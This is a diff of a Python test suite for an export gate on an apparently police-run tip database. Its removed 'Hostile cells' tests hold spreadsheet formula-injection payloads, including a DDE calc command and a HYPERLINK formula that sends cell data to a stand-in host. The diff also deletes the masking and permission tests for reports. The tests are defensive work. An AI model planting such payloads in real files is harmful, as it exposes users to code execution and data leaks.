@@ -1,8 +1,7 @@
-"""The gate: what leaves is masked, small counts are hidden, formulas are dead, and every file is in the log."""
+"""The gate: who may take what away, what is masked and hidden in it, and what the log says of it."""
 
 from __future__ import annotations
 
-import csv
 import dataclasses
 import io
 import subprocess
@@ -14,83 +13,44 @@ from datetime import date, datetime
 from pathlib import Path
 from typing import Any, get_type_hints
 
-import openpyxl
 import pandas as pd
 import pytest
-from hypothesis import HealthCheck, given, settings
-from hypothesis import strategies as st
 
-from auth.permissions import ROLES, actor_for
+from auth.permissions import ROLES
 from data_access import audit
-from data_access.actors import OPERATOR, Actor
+from data_access.actors import OPERATOR
 from data_access.errors import NotAllowed
 from data_access.events import Event, record
-from data_access.keys import derive
 from data_access.store import Store
-from regulation.periods import parse_period
 from reports import cells, releasing
-from reports.building import build_report
-from reports.content import Note, Paragraph, Row, Section, Signature, Table, plain_text
-from reports.issuer import default_issuer
 from reports.releasing import PERIOD, SEARCH, Released, Shown, release
-from reports.releasing_report import ReleasedReport, release_report
-from reports.table_spec import ColumnSpec, Kind, TableSpec, spec_of
+from reports.releasing_report import ReleasedReport
+from reports.table_spec import ColumnSpec, TableSpec, spec_of
 from reports.tables_csv import write_csv
 from reports.tables_excel import write_xlsx
-from tests.report_sample import sample_chart, sample_report
+from tests.gate_support import (
+    LEADER,
+    MEMBER,
+    NAME,
+    NOW,
+    NUMBER,
+    PHONE,
+    STEERING,
+    actor,
+    gate_store,
+    log,
+    passed,
+    read_csv,
+    table,
+)
+from tests.report_sample import sample_report
 
-NOW = datetime(2026, 11, 25, 10, 0)
-NAME, PHONE, NUMBER = "Zạch Văn Qũy", "0912345678", "042096001234"
-MEMBER = "Bế Thị Ngộ Nghĩnh"
+# The type is the gate
 
 
 @pytest.fixture(scope="module")
 def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
-    path = tmp_path_factory.mktemp("gate") / "kho.duckdb"
-    with Store.create(path, derive("k" * 40), ward=("18754", "phường Sông Trí"), clock=lambda: NOW) as made:
-        with made.write(OPERATOR) as tx:
-            record(tx, "tip", [Event("tip-1", "received", NOW, {"channel": "phone"})])
-            record(tx, "member", [Event("member-1", "joined", NOW, {"full_name": MEMBER, "phone": "0987654321"})])
-            tx.execute(
-                "INSERT INTO store.tip_informant VALUES ('tip-1', '18754', $name, '', $phone, $number, $at, '')",
-                {"name": NAME, "phone": PHONE, "number": NUMBER, "at": NOW},
-            )
-        yield made
-
-
-def actor(role: str) -> Actor:
-    groups = ("group-1",) if role == "area_officer" else ()
-    return actor_for(f"acc-{role}", "Đỗ Lập Biểu", role, groups)
-
-
-LEADER, STEERING = actor("leader"), actor("steering")
-
-
-def log(store: Store) -> list[tuple[str, str, str, str]]:
-    return store.query("SELECT actor, action, subject_id, detail FROM store.audit_entry ORDER BY entry_id")
-
-
-def table(kinds: dict[Kind, object] | list[tuple[Kind, object]], *, reads: str = "read.tips") -> TableSpec:
-    """One row with a column of each kind."""
-    pairs = list(kinds.items()) if isinstance(kinds, dict) else kinds
-    columns = tuple(ColumnSpec(f"c{order}", f"Cột {order}", kind) for order, (kind, _) in enumerate(pairs))
-    return TableSpec("bang-thu", columns, [[value for _, value in pairs]], reads)
-
-
-def passed(store: Store, spec: TableSpec, who: Actor = LEADER, **filters: str) -> Released:
-    return release(store, who, spec, title="Bảng thử", filters=filters, as_of=NOW, purpose="xlsx")
-
-
-def read_csv(data: bytes, delimiter: str = ",") -> list[list[str]]:
-    assert data.startswith(b"\xef\xbb\xbf")
-    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
-
-
-def read_xlsx(data: bytes) -> Any:
-    return openpyxl.load_workbook(io.BytesIO(data)).active
-
-
-# The type is the gate
+    yield from gate_store(tmp_path_factory.mktemp("gate"))
 
 
 @pytest.mark.parametrize("kind", [Shown, Released])
@@ -297,106 +257,6 @@ def test_file_names_are_plain(slug: str) -> None:
         TableSpec(slug, (), [], "read.tips")
 
 
-# Hostile cells
-
-STARTERS = st.sampled_from(list("=+-@") + list("＝＋－＠﹦﹢﹣﹫"))
-LEADS = st.text(st.sampled_from(list(" \t\r\n\"'“‘`\u00a0\u200b\ufeff\u3000\u202e\x00\x0b")), max_size=4)
-PAYLOADS = st.sampled_from(
-    ["cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.example/?"&A1,"a")', "IMPORTXML(A1)", "A1", "-2+3"]
-)
-
-
-def _is_live(cell: str) -> bool:
-    """Whether some spreadsheet may take the cell for a formula, after dropping blanks and quotes before it."""
-    rest = cell.lstrip(' \t\r\n\u00a0\u3000"“”‘’`\u200b\ufeff\x00\x0b\u202e')
-    return bool(rest) and unicodedata.normalize("NFKC", rest)[0] in "=+-@\t\r"
-
-
-@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(
-    LEADS, STARTERS, PAYLOADS, st.sampled_from(["text", "label", "code", "address", "phone", "name", "count", "moment"])
-)
-def test_no_cell_is_a_formula(store: Store, lead: str, starter: str, payload: str, kind: Kind) -> None:
-    hostile = f"{lead}{starter}{payload}"
-    made = passed(store, table([(kind, hostile), ("text", f"x;{hostile}")]), Nhóm=hostile)
-    value = made.rows[0][0]
-    assert isinstance(value, str)
-    assert not _is_live(value)
-    for delimiter in (",", ";", "\t", "|"):
-        for row in read_csv(write_csv(made), delimiter):
-            assert [cell for cell in row if _is_live(cell)] == []
-    sheet = read_xlsx(write_xlsx(made))
-    assert [cell.coordinate for row in sheet for cell in row if cell.data_type == "f"] == []
-
-
-@pytest.mark.parametrize("figure", ["-1,5", "+12", "+3 (+12,5%)", "-2,1 điểm %", "+3 giờ 20 phút", "–", "-", "12%"])
-def test_figures_with_a_sign_stay_as_they_are(store: Store, figure: str) -> None:
-    assert passed(store, table({"label": figure})).rows[0] == (figure,)
-
-
-def test_control_and_direction_characters_do_not_leave(store: Store) -> None:
-    made = passed(store, table({"label": "a\x00b\u202ec\u200bd\ud800e\x1b[31m"}))
-    assert made.rows[0] == ("a bcde [31m",)
-    write_csv(made), write_xlsx(made)
-
-
-def test_a_text_too_long_for_a_cell_is_cut_and_still_written(store: Store) -> None:
-    made = passed(store, table({"text": "dài " * 20_000}))
-    written = read_xlsx(write_xlsx(made)).cell(3, 1).value
-    assert written.endswith("…")
-    assert len(written) == cells.LONGEST
-
-
-# Files
-
-
-def test_the_csv_file_holds_what_was_released(store: Store) -> None:
-    spec = table([("label", 'Tổ "1", 2\nba'), ("count", 1234), ("number", 1.5), ("rate", 0.9474), ("moment", NOW)])
-    data = write_csv(passed(store, spec))
-    assert read_csv(data)[0] == ["Cột 0", "Cột 1", "Cột 2", "Cột 3", "Cột 4"]
-    assert read_csv(data)[1] == ['Tổ "1", 2 ba', "1234", "1,5", "94,7%", "10:00 25/11/2026"]
-    assert data.count(b"\r\n") == len(read_csv(data))
-
-
-def test_the_excel_file_holds_typed_cells(store: Store) -> None:
-    columns = (
-        ColumnSpec("a", "Tổ dân phố", "label"),
-        ColumnSpec("b", "Số tin", "count"),
-        ColumnSpec("c", "Tỷ lệ", "rate"),
-        ColumnSpec("d", "Lúc", "moment"),
-    )
-    rows = [["Tổ 1", 1234, 0.5, NOW], ["http://x.example", 5, None, None], ["Tổng", 1239, 0.5, NOW]]
-    made = passed(store, TableSpec("bang", columns, rows, "read.aggregates", total_row=True))
-    data = write_xlsx(made)
-    sheet = read_xlsx(data)
-    assert sheet.freeze_panes == "A3"
-    assert [cell.value for cell in sheet[2]] == ["Tổ dân phố", "Số tin", "Tỷ lệ", "Lúc"]
-    assert [(cell.value, cell.data_type) for cell in sheet[3]] == [
-        ("Tổ 1", "s"),
-        (1234, "n"),
-        (0.5, "n"),
-        (NOW, "d"),
-    ]
-    assert sheet["C3"].number_format == "0.0%"
-    assert sheet["A4"].hyperlink is None
-    assert sheet["B5"].font.bold
-    assert not sheet["B3"].font.bold
-    assert sheet["A7"].value == made.lines[0]
-    assert 8 <= sheet.column_dimensions["A"].width <= 62
-
-
-def test_the_excel_file_tells_nothing_of_the_machine_and_is_the_same_each_time(store: Store) -> None:
-    made = passed(store, table({"text": "a"}))
-    data = write_xlsx(made)
-    assert data == write_xlsx(made)
-    book = openpyxl.load_workbook(io.BytesIO(data))
-    assert not book.properties.creator
-    assert not book.properties.lastModifiedBy
-    assert book.properties.created == NOW
-    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
-    assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
-
-
 # Small counts
 
 
@@ -483,65 +343,3 @@ def test_the_screen_gets_a_frame_with_the_same_values(store: Store) -> None:
     made = release(store, LEADER, spec, title="t", filters={}, as_of=NOW, purpose="screen")
     assert made.frame().to_dict("list") == {"Tổ dân phố": ["Tổ 1"], "Số tin": [12]}
     assert made.texts() == [["Tổ 1", "12"]]
-
-
-# Reports
-
-
-def test_a_report_without_identities_stays_as_it_is(store: Store) -> None:
-    report = sample_report()
-    made = release_report(store, LEADER, report, form="docx")
-    lines = plain_text(made.report).split("\n")
-    note = next(line for line in lines if line.startswith("Người kết xuất: Đỗ Lập Biểu"))
-    lines.remove(note)
-    assert "\n".join(lines) == plain_text(report)
-    assert made.report.heading == report.heading
-    assert made.report.signature == report.signature
-    assert log(store)[-1] == ("acc-leader", "export.report", "2026-H1", "docx")
-
-
-def test_every_text_of_a_report_is_masked(store: Store) -> None:
-    said = f"{NAME.upper()}, 0912.345.678"
-    chart = dataclasses.replace(sample_chart(), title=said, alt=said, labels=(said, *sample_chart().labels[1:]))
-    figure = next(block for block in sample_report().blocks() if type(block).__name__ == "Figure")
-    blocks = (
-        Paragraph(said),
-        Table((dataclasses.replace(_some_table().columns[0], title=said),), (Row((said,)),), said),
-        dataclasses.replace(figure, chart=chart, caption=said),
-        Section("1.", said, (Note(said),)),
-    )
-    signed = Signature("", "TRƯỞNG CÔNG AN PHƯỜNG", "Thiếu tá", "Phan Ký Tên", ("Như trên",))
-    report = dataclasses.replace(
-        sample_report(), title=said, closing=said, sections=(Section("I.", said, blocks),), signature=signed
-    )
-    made = release_report(store, LEADER, report, form="docx").report
-    assert "QŨY" not in repr(made).upper()
-    assert "345" not in repr(made)
-    assert repr(made).count("Z.V.Q., 09xx xxx 678") == repr(report).count("QŨY")
-    assert made.signature == signed
-
-
-def _some_table() -> Table:
-    return next(block for block in sample_report().blocks() if isinstance(block, Table))
-
-
-@pytest.mark.parametrize("role", list(ROLES))
-def test_who_may_take_reports_away(store: Store, role: str) -> None:
-    if role in ("leader", "focal_point", "steering"):
-        assert type(release_report(store, actor(role), sample_report(), form="docx")) is ReleasedReport
-    else:
-        with pytest.raises(NotAllowed):
-            release_report(store, actor(role), sample_report(), form="docx")
-        assert log(store)[-1] == (f"acc-{role}", "refused", "", "export.report")
-
-
-def test_the_report_of_the_demo_ward_loses_nothing(demo_store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
-    """With six thousand names known, no word of a report on figures is taken for one of them."""
-    report = build_report(demo_store, parse_period("2026-H1"), NOW, default_issuer())
-    monkeypatch.setattr(audit, "append", lambda *_: None)  # the demo store is shared: nothing may be written to it
-    made = release_report(demo_store, LEADER, report, form="docx").report
-    before, after = plain_text(report).split("\n"), plain_text(made).split("\n")
-    assert [line for line in after if line not in before] == [
-        line for line in after if line.startswith("Người kết xuất")
-    ]
-    assert len(after) == len(before) + 1
